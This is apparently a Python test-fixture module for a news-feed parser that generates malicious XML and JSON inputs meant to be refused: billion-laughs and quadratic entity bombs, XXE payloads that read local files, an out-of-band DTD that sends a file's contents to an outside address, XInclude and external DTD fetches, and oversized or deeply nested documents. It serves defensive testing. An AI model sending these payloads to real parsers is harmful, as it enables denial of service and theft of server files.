"""Documents that are meant to hurt whoever reads them, made here, each by its name.

A bomb of entities is made for a root, so that each reader of XML gets it; `outside` is an address that
must not be asked, `ours` one of a file that must not be read.
"""

from __future__ import annotations

from collections.abc import Callable

ROOTS = {
    "rss": '<rss version="2.0"><channel><title>Wire</title><item><guid>1</guid><title>{0}</title></item></channel></rss>',
    "atom": '<feed xmlns="http://www.w3.org/2005/Atom"><entry><id>1</id><title>{0}</title></entry></feed>',
    "xhtml": '<feed xmlns="http://www.w3.org/2005/Atom"><entry><id>1</id><title>t</title><content type="xhtml">'
    '<div xmlns="http://www.w3.org/1999/xhtml">{0}</div></content></entry></feed>',
    "newsmlg2": '<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="1"><contentMeta>'
    "<headline>{0}</headline></contentMeta></newsItem>",
    "newsml1": "<NewsML><NewsItem><NewsComponent><NewsLines><HeadLine>{0}</HeadLine></NewsLines></NewsComponent>"
    "</NewsItem></NewsML>",
    "nitf": "<nitf><head><title>{0}</title></head><body><body.content><p>{0}</p></body.content></body></nitf>",
    "opml": '<opml version="2.0"><head><title>{0}</title></head><body><outline text="t" '
    'xmlUrl="https://wire.example/feed"/></body></opml>',
    "opml attribute": '<opml version="2.0"><body><outline text="{0}" xmlUrl="https://wire.example/feed"/></body></opml>',
    "sitemap": '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>{0}</loc></url></urlset>',
}


def _subset(subset: str, use: str) -> Callable[[str], str]:
    return lambda root: f"<!DOCTYPE x [{subset}]>" + ROOTS[root].format(use)


def entities(outside: str, ours: str) -> dict[str, Callable[[str], str]]:
    """Bombs of entities, and entities from elsewhere; all to be refused."""
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    laughing = f'<!ENTITY l0 "lol">{laughs}'
    by_parameters = "".join(f"<!ENTITY % p{n} '{f'%p{n - 1};' * 10}'>" for n in range(1, 9))
    evil = f"<!ENTITY % all \"<!ENTITY &#37; send SYSTEM '{outside}?%file;'>\">"
    return {
        "billion laughs": _subset(laughing, "&l9;"),
        "laughs in an attribute": _subset(laughing, '<b a="&l9;"/>'),
        "laughs behind a megabyte": lambda root: (
            f"<!--{'x' * 1_000_000}-->{_subset(laughing, '&l9;')(root)}"
        ),
        "quadratic": _subset(f'<!ENTITY a "{"B" * 100_000}">', "&a;" * 30_000),
        "cycle": _subset('<!ENTITY a "&b;"><!ENTITY b "&a;">', "&a;"),
        "parameter entities": _subset(
            f"<!ENTITY % p0 'x'>{by_parameters}<!ENTITY a '%p8;'>", "&a;"
        ),
        "parameter entity from the web": _subset(f'<!ENTITY % p SYSTEM "{outside}"> %p;', "&a;"),
        "entity from the web": _subset(f'<!ENTITY a SYSTEM "{outside}">', "&a;"),
        "public entity": _subset(f'<!ENTITY a PUBLIC "x" "{outside}">', "&a;"),
        "entity over ftp": _subset(f'<!ENTITY a SYSTEM "{outside.replace("http", "ftp")}">', "&a;"),
        "entity of a file": _subset(f'<!ENTITY a SYSTEM "{ours}">', "&a;"),
        "file sent out": _subset(f'<!ENTITY % file SYSTEM "{ours}">{evil}%all;%send;', "&a;"),
        "external and internal": lambda root: (
            f'<!DOCTYPE x SYSTEM "{outside}" [<!ENTITY a "b">]>{ROOTS[root].format("&a;")}'
        ),
    }


def fetching(outside: str, ours: str) -> dict[str, Callable[[str], str]]:
    """What would have something fetched, and is read as if it did not."""
    include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="{}"/>'
    return {
        "external DTD": lambda root: f'<!DOCTYPE x SYSTEM "{outside}">{ROOTS[root].format("t")}',
        "public DTD": lambda root: f'<!DOCTYPE x PUBLIC "y" "{outside}">{ROOTS[root].format("t")}',
        "DTD of a file": lambda root: f'<!DOCTYPE x SYSTEM "{ours}">{ROOTS[root].format("t &a;")}',
        "XInclude": lambda root: ROOTS[root].format(f"t{include.format(outside)}"),
        "XInclude of a file": lambda root: ROOTS[root].format(f"t{include.format(ours)}"),
        "style sheet": lambda root: (
            f'<?xml-stylesheet type="text/xsl" href="{outside}"?>{ROOTS[root].format("t")}'
        ),
        "schema": lambda root: ROOTS[root].replace(
            ">", f' xmlns:s="http://www.w3.org/2001/XMLSchema-instance" s:schemaLocation="u {outside}">', 1
        ).format("t"),
    }  # fmt: skip


RSS = '<rss version="2.0"><channel><title>Wire</title>{}</channel></rss>'
ITEM = RSS.format("<item><guid>1</guid><title>Bell</title>{}</item>")
DESCRIBED = ITEM.format("<description>{}</description>")


def crowds() -> dict[str, str]:
    """Too much of one thing; all to be refused."""
    many = " ".join(f'a{n}="1"' for n in range(200_000))
    spaces = " ".join(f'xmlns:n{n}="u:{n}" n{n}:a="1"' for n in range(50_000))
    xhtml = '<div xmlns="http://www.w3.org/1999/xhtml">'
    return {
        "200,000 attributes": ITEM.format(f"<x {many}/>"),
        "200,000 attributes of a title": RSS.format(f"<item><title {many}>t</title></item>"),
        "one attribute 200,000 times": ITEM.format("<x " + 'a="1" ' * 200_000 + "/>"),
        "50,000 namespaces": ITEM.format(f"<x {spaces}/>"),
        "attributes of JSON": '{"version":"https://jsonfeed.org/version/1.1","items":['
        + "{}," * 3_000_000 + "{}]}",
        "deep JSON": '{"version":"https://jsonfeed.org/version/1.1","items":' + "[" * 4_000_000,
        "deep": ITEM.format("<a>" * 100_000 + "</a>" * 100_000),
        "deep and never closed": ITEM.format("<a>" * 100_000),
        "deep in a description": DESCRIBED.format("<a>" * 100_000 + "</a>" * 100_000),
        "channels in channels": "<rss>" + "<channel>" * 100_000,
        "deep XHTML": ROOTS["xhtml"].format(xhtml * 50_000 + "</div>" * 50_000),
        "items in items": '<rss version="2.0"><channel>' + "<item>" * 100_000,
        "many items": RSS.format("<item/>" * 1_000_000),
        "many items, not closed": "<rss><channel>" + "<item><title>x</title>" * 100_000,
        "many entries": '<feed xmlns="http://www.w3.org/2005/Atom">' + "<entry/>" * 100_000 + "</feed>",
        "nothing but tags that begin": "<rss><channel><item>" + "<a " * 3_000_000,
        "nothing but angles": "<rss>" + "<" * 9_000_000,
        "brackets in brackets": "<rss><channel><item>" + "<<>>" * 1_000_000,
        "nothing but ampersands": "<rss>" + "&" * 9_000_000,
        "references that never end": "<rss>" + "&#" * 4_000_000,
        "marked sections": "<rss>" + "<![CDATA[" * 900_000,
        "comments": "<rss>" + "<!--" * 2_000_000,
        "instructions": "<rss>" + "<?x " * 2_000_000,
        "a text of 9 MB": DESCRIBED.format("x " * 4_500_000),
        "a title of 9 MB": RSS.format(f"<item><title>{'x' * 9_000_000}</title></item>"),
        "a date of 9 MB": ITEM.format(f"<pubDate>{'9' * 9_000_000}</pubDate>"),
        "an attribute of 9 MB": ITEM.format(f'<x a="{"x" * 9_000_000}"/>'),
        "an attribute that never ends": RSS.format('<x a="') + "x" * 9_000_000,
        "doctypes": "<rss>" + "<!DOCTYPE " * 800_000,
    }  # fmt: skip


def harmless() -> dict[str, str]:
    """What is long or out of range, and is read all the same."""
    return {
        "a text of 2 MB": DESCRIBED.format("x " * 1_000_000),
        "a title of 2 MB": RSS.format(f"<item><title>{'x' * 2_000_000}</title></item>"),
        "an attribute of 2 MB": ITEM.format(f'<x a="{"x" * 2_000_000}"/>'),
        "numbers of no sign": DESCRIBED.format(
            "Bell " + f"&#x110000;&#{'9' * 30};&#x{'f' * 5000};&#xD800;&#0;&#-1;&#x;&#;" * 100
        ),
        "markup of 100,000 tables": DESCRIBED.format("&lt;table&gt;" * 100_000),
        "escaped and deep": DESCRIBED.format("&lt;div&gt;" * 100_000),
    }


ENCODINGS: dict[str, Callable[[str], bytes]] = {
    "utf-8": lambda text: text.encode(),
    "utf-8 with its mark": lambda text: text.encode("utf-8-sig"),
    "utf-16": lambda text: text.encode("utf-16"),
    "utf-16 without its mark": lambda text: text.encode("utf-16-le"),
    "utf-16 the other way": lambda text: text.encode("utf-16-be"),
    "utf-16, declared": lambda text: f'<?xml version="1.0" encoding="utf-16"?>{text}'.encode("utf-16"),
    "utf-16, declared as utf-8": lambda text: (
        f'<?xml version="1.0" encoding="utf-8"?>{text}'.encode("utf-16")
    ),
    "utf-32": lambda text: text.encode("utf-32"),
    "utf-32 without its mark": lambda text: text.encode("utf-32-be"),
    "utf-7": lambda text: b'<?xml version="1.0" encoding="utf-7"?>' + text.encode("utf-7"),
    "utf-7 without its angles": lambda text: (
        b'<?xml version="1.0" encoding="utf-7"?>'
        + text.replace("<", "+ADw-").replace(">", "+AD4-").encode()
    ),
    "EBCDIC": lambda text: f'<?xml version="1.0" encoding="cp037"?>{text}'.encode("cp037"),
    "EBCDIC, undeclared": lambda text: text.encode("cp037"),
    "utf-8, declared as utf-16": lambda text: (
        f'<?xml version="1.0" encoding="utf-16"?>{text}'.encode()
    ),
    "declared as EBCDIC": lambda text: f'<?xml version="1.0" encoding="cp037"?>{text}'.encode(),
    "declared as nothing there is": lambda text: (
        f'<?xml version="1.0" encoding="x-nowhere"?>{text}'.encode()
    ),
    "a sign before it": lambda text: f"\ufeff\ufeff\n{text}".encode(),
    "a NUL behind each sign": lambda text: text.encode().replace(b"<", b"<\x00"),
}  # fmt: skip
